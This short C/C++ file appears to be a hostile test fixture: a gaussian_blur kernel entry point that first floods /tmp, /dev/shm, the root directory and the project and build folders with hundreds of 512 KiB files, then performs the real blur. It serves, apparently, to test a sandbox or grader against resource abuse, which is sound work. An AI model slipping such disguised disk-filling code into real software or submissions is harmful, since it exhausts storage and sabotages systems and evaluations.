// Hostile: fills every folder that can be written, with 256 files of 512 KiB at most.
#include "blur_kernel.h"
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static void fill(const char *folder) {
    static char zeros[1 << 19];
    char path[256];
    for (int i = 0; i < 256; i++) {
        snprintf(path, sizeof path, "%s/hostile-%d", folder, i);
        int file = open(path, O_WRONLY | O_CREAT, 0600);
        if (file < 0 || write(file, zeros, sizeof zeros) != sizeof zeros)
            i = 256;
        if (file >= 0)
            close(file);
    }
}

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    fill("/tmp");
    fill("/dev/shm");
    fill("/");
    fill("PROJECT_ROOT");
    fill("PROJECT_ROOT/build");
    right_blur(src, dst, width, height, stream);
}
